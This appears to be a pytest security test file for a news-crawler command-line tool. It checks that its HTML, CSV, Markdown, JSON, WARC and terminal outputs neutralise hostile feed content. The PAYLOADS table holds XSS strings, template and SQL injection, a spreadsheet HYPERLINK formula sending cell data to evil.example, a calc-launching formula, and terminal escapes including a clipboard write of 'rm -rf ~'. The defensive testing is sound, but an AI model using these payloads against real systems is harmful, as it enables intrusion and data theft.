"""What strangers wrote is text wherever it is shown: no terminal, browser, spreadsheet or log does what it says."""

import asyncio
import csv
import io
import json
import re
import zlib
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from crawler.core.types import Attribution, Claim, Evidence, FeedState, Verdict
from tests.cli.conftest import firsthand  # noqa: F401 - a fixture
from tests.contract.conftest import START, Desk, copy, draft, opened, seen, story

PAYLOADS = {
    "script": "<script>document.documentElement.dataset.owned = 1</script>",
    "onerror": "\"'><img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><style>*{display:none}</style>",
    "mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "closing": "</title></textarea></style></script><iframe srcdoc='<script>alert(1)</script>'>",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "javascript": "javascript:alert(1)",
    "osc8": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc52": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "csi": "\x1b[2J\x1b[1;31mred\x9b31m\x1b[6n",
    "title": "\x1b]0;owned\x07\x1bP+q\x1b\\",
    "bidi": "\u202egpj.exe\u2066 \u200f\u061c\u2069",
    "lines": "one\r\n2026-03-02T06:00:00.000Z error faked\u2028three\u0085four\x0b\x0cfive",
    "nothing": "a\x00b\x08\x7f\ufeff\u200b",
    "equals": "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "quotes": "\"=1\",\"\n=2\";'=3",
    "markdown": "[click](javascript:alert(1)) ![x](https://evil.example/x.png) **bold** `code` # head | cell | ~~~",
    "autolink": "<https://evil.example/> <b>bold</b> &lt;b&gt; \\<b>",
    "rich": "[red]b[/red] [link=https://evil.example]x[/link] :smile:",
    "sql": "'; DROP TABLE articles; --",
    "long": "word " * 400,
    "endless": "w" * 3000,
}
# Those that want a terminal or a line of a log: each costs a start of a command.
ACTORS = ("script", "osc8", "osc52", "csi", "title", "bidi", "lines", "rich", "long")
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


async def fill(folder, payloads=PAYLOADS):
    async with opened(f"sqlite:///{folder / 'store.db'}") as store:
        desk, stories = Desk(store), {}
        await desk.add_feeds(*(f"https://{name}.example/feed" for name in payloads))
        for number, (name, text) in enumerate(payloads.items()):
            await desk.poll(f"https://{name}.example/feed", seen(f"{name}{text}", f"https://{name}.example/a", title=text,
                            summary=text, author=text, language="en", content=text),
                            state=FeedState(last_poll=START, reason="not_a_feed", detail=text))
            (sighting,) = await desk.claim(1)
            for part in ("a", "b"):
                await store.save_article(draft(
                    f"{name}{part}", title=text, text=f"{text}\nThe ferry sailed at noon, keeper {number} wrote.", source=f"{text} {part}",
                    url=f"https://{name}.example/{part}", address=f"https://{name}.example/{part}", site_name=text, walls=(text,),
                    claims=(Claim("published", "feed", text, START),), body=text.encode("utf-8", "replace"),
                    headers=(("content-type", text), ("x-foreign", text), (text, text)),
                    attributions=(Attribution("names-source", text, text, text, "body"),)),
                    sighting if part == "a" else None, START)
            why = Evidence("names-source", text, text, text)
            made = story(f"a{name}a", copy_of(f"a{name}b", f"a{name}a", why), why=(why,), outside=text, decided=number % 2 == 0,
                         rivals=() if number % 2 == 0 else (f"a{name}b",))
            (change,) = await store.save_stories([f"a{name}a", f"a{name}b"], [made], START)
            await store.add_verdict(Verdict(0, "confirm", change.story, f"a{name}a", (f"a{name}b",), text, START, text))
            stories[name] = change.story
    return stories


def copy_of(article, of, why):
    from dataclasses import replace
    return replace(copy(article, of), evidence=(why,))


@pytest.fixture(scope="module")
def shelf(tmp_path_factory):
    """A store in which every payload stands in every field, and its configuration."""
    folder = tmp_path_factory.mktemp("shelf")
    config = folder / "firsthand.yaml"
    listed = "".join(f"  - https://{name}.example/feed\n" for name in PAYLOADS)
    config.write_text(f"store: sqlite:///{folder / 'store.db'}\nstate_dir: {folder / 'state'}\ncontact: desk@news.internal\n"
                      f"extract: {{workers: 1}}\nfeeds:\n{listed}")
    return SimpleNamespace(config=str(config), stories=asyncio.run(fill(folder)), folder=folder)


def harmless(text, *, allowed="\n"):
    """Nothing in it acts on a terminal."""
    found = ACTING.search(text.translate({ord(one): None for one in allowed}))
    assert found is None, repr(text[max(0, found.start() - 60):found.start() + 60])


def clean(text):
    """What the store keeps of a text: NUL and lone surrogates are gone."""
    return text.replace("\x00", "")


# --- reports ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("format_", ["table", "json", "jsonl", "csv", "html", "md"])
def test_a_report_in_any_format_acts_on_no_terminal(firsthand, shelf, format_):  # noqa: F811 - the fixture
    done = firsthand("report", "--format", format_, config=shelf)
    assert (done.status, done.err) == (0, "")
    harmless(done.out, allowed="\n\r\t" if format_ == "csv" else "\n")


class Found(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.links, self.handlers = set(), set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag == "svg":
            assert dict(attrs)["class"].startswith("plot ")    # one of ours
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"):
                self.links.add((name, value))
            if name.startswith("on"):
                self.handlers.add(name)


def test_the_page_holds_no_tag_no_handler_and_no_link_of_theirs(firsthand, shelf):  # noqa: F811 - the fixture
    page = Found()
    page.feed(firsthand("report", "--format", "html", config=shelf).out)
    assert page.tags.isdisjoint({"script", "img", "math", "iframe", "form", "object", "embed", "mglyph", "textarea", "base", "link"})
    assert page.handlers == set()
    assert {value for _, value in page.links} <= {f"https://{name}.example/{part}" for name in PAYLOADS for part in "ab"}


def test_a_table_of_cells_reads_back_and_a_spreadsheet_runs_none_of_them(firsthand, shelf):  # noqa: F811 - the fixture
    rows = list(csv.DictReader(io.StringIO(firsthand("report", "--format", "csv", config=shelf).out, newline="")))
    assert len(rows) == len(PAYLOADS)
    assert [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"] == []
    by_story = {row["story"]: row for row in rows}
    for name in ("equals", "plus", "minus", "at", "tab", "quotes"):
        text, cell = PAYLOADS[name], by_story[shelf.stories[name]]["original_title"]
        assert cell == (f"'{text}" if text[0] in "=+-@\t\r" else text)


def test_json_is_exact(firsthand, shelf):  # noqa: F811 - the fixture
    whole = json.loads(firsthand("report", "--format", "json", config=shelf).out)
    lines = [json.loads(line) for line in firsthand("report", "--format", "jsonl", config=shelf).out.splitlines()]
    assert lines == whole["stories"]
    titles = {one["id"]: one["original"]["title"] for one in lines}
    assert titles == {shelf.stories[name]: clean(text) for name, text in PAYLOADS.items()}


def test_markdown_holds_no_link_image_or_tag_of_theirs(firsthand, shelf):  # noqa: F811 - the fixture
    out = firsthand("report", "--format", "md", config=shelf).out
    targets = re.findall(r"(?<!\\)\]\(<?([^)>]*)", out)
    assert set(targets) <= {f"https://{name}.example/{part}" for name in PAYLOADS for part in "ab"}
    assert re.findall(r"(?<![\\(])<[a-zA-Z/!]", out) == []
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in out.splitlines() if row.startswith("|")} <= {5, 7}


# --- other commands -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("as_json", [False, True], ids=["for people", "as JSON"])
@pytest.mark.parametrize("what", ["story", "article"])
def test_one_shown_whole_is_harmless(firsthand, shelf, what, as_json):  # noqa: F811 - the fixture
    for name in ACTORS:
        text = PAYLOADS[name]
        id_ = shelf.stories[name] if what == "story" else f"a{name}a"
        done = firsthand("show", id_, *(["--json"] if as_json else []), config=shelf)
        assert (done.status, done.err) == (0, ""), name
        harmless(done.out)
        if as_json:
            assert clean(text) in json.dumps(json.loads(done.out), ensure_ascii=False) or json.dumps(clean(text))[1:-1] in json.dumps(
                json.loads(done.out))


@pytest.mark.parametrize("format_", ["table", "json"])
def test_the_list_of_feeds_shows_what_their_servers_said_as_text(firsthand, shelf, format_):  # noqa: F811 - the fixture
    done = firsthand("feeds", "list", "--format", format_, config=shelf)
    assert (done.status, done.err) == (0, "")
    harmless(done.out)
    if format_ == "json":
        assert len(done.out.splitlines()) == len(PAYLOADS)


def test_everything_exported_is_a_line_each_and_exact(firsthand, shelf):  # noqa: F811 - the fixture
    out = firsthand("export", "--format", "jsonl", config=shelf).out
    harmless(out)
    rows = {row["article"]: row for row in map(json.loads, out.splitlines())}
    assert len(rows) == 2 * len(PAYLOADS)
    assert {name: rows[f"a{name}a"]["title"] for name in PAYLOADS} == {name: clean(text) for name, text in PAYLOADS.items()}


def test_rulings_are_exported_a_line_each(firsthand, shelf):  # noqa: F811 - the fixture
    out = firsthand("export", "--format", "rulings", config=shelf).out
    harmless(out)
    assert len([json.loads(line) for line in out.splitlines()]) == len(PAYLOADS)


def test_no_header_of_theirs_breaks_a_web_archive(firsthand, shelf):  # noqa: F811 - the fixture
    target = shelf.folder / "pages.warc.gz"
    assert firsthand("export", "--format", "warc", "-o", target, config=shelf).status == 0
    data, kinds = target.read_bytes(), []
    while data:
        inflate = zlib.decompressobj(31)
        head, _, rest = inflate.decompress(data).partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n")[1:])
        assert set(fields) <= {"WARC-Type", "WARC-Date", "WARC-Filename", "Content-Type", "WARC-Record-ID", "WARC-Block-Digest",
                               "Content-Length", "WARC-Target-URI", "WARC-Payload-Digest"}
        assert len(rest) == int(fields["Content-Length"]) + 4
        kinds.append(fields["WARC-Type"])
        if fields["WARC-Type"] == "response":
            lines = rest.partition(b"\r\n\r\n")[0].decode("utf-8", "surrogateescape").split("\r\n")
            assert {line.partition(":")[0].lower() for line in lines[1:]} <= {
                "content-type", "x-foreign", "content-length", PAYLOADS["endless"], PAYLOADS["minus"]}  # as HTTP allows
            assert not any(re.search("[\x00-\x1f\x7f]", line) for line in lines)
        data = inflate.unused_data
    assert kinds == ["warcinfo", *["response"] * 2 * len(PAYLOADS)]


def test_nothing_of_theirs_is_in_the_name_of_a_file(firsthand, shelf):  # noqa: F811 - the fixture
    assert firsthand("backup", shelf.folder / "copy.db", config=shelf).status == 0
    names = {path.name for path in shelf.folder.rglob("*")}
    assert names <= {"firsthand.yaml", "store.db", "store.db-wal", "store.db-shm", "store.db-election", "copy.db", "pages.warc.gz", "state"}


@pytest.mark.parametrize("payload", [*ACTORS, "endless"])
def test_an_error_that_repeats_them_is_one_harmless_line(firsthand, shelf, payload):  # noqa: F811 - the fixture
    text = PAYLOADS[payload]
    for arguments in (("show", "--", text), ("report", "--source", text, "--format", text), ("feeds", "poll", "--", text), (text,)):
        done = firsthand(*arguments, config=shelf)
        assert done.status in (2, 3)
        assert done.out == ""
        assert done.err.count("\n") == 1
        harmless(done.err)


def test_a_page_of_theirs_is_extracted_as_text(firsthand, tmp_path):  # noqa: F811 - the fixture
    from html import escape

    whole = " ".join(text for name, text in PAYLOADS.items() if name not in ("long", "endless"))
    (tmp_path / "page.html").write_text(
        f"<html lang=en><head><title>{escape(whole)}</title><meta name=author content='{escape(whole)}'></head><body><article>"
        + "".join(f"<p>{escape(whole)} The ferry sailed at noon and keeper {n} wrote it down.</p>" for n in range(4))
        + "</article></body></html>")
    for more in ([], ["--json"]):
        done = firsthand("extract", "page.html", *more)
        assert done.status == 0, done.err
        harmless(done.out)


def test_a_page_that_takes_too_long_is_one_line_with_its_reason(firsthand, tmp_path):  # noqa: F811 - the fixture
    (tmp_path / "page.html").write_text("<p>The ferry sailed at noon.</p>" * 20_000)
    (tmp_path / "f.yaml").write_text("contact: desk@news.internal\nextract: {timeout: 1ms, workers: 1}\nfeeds: []\n")
    done = firsthand("-c", tmp_path / "f.yaml", "extract", "page.html")
    assert (done.status, done.out, done.err.count("\n")) == (1, "", 1)
    assert "page.html: cpu: " in done.err


def test_feeds_named_by_strangers_are_shown_as_text(firsthand, tmp_path):  # noqa: F811 - the fixture
    """A name that somebody gave a folder of the OPML file that they shared."""
    from html import escape

    rows = "".join(f"<outline text={escape(xml(text))!r}><outline xmlUrl='https://{name}.example/feed'/></outline>"
                   for name, text in PAYLOADS.items() if name not in ("long", "endless"))
    (tmp_path / "r.opml").write_text(f"<opml version='2.0'><body>{rows}</body></opml>")
    (tmp_path / "f.yaml").write_text("contact: desk@news.internal\nfeeds: [{opml: r.opml}]\n")
    done = firsthand("-c", tmp_path / "f.yaml", "check")
    assert done.status == 0, done.err
    harmless(done.out)
    harmless(done.err)


def xml(text):
    """What of it XML can hold."""
    return re.sub("[\x00-\x1f\"'\\\\\x7f-\x9f]", "", text)
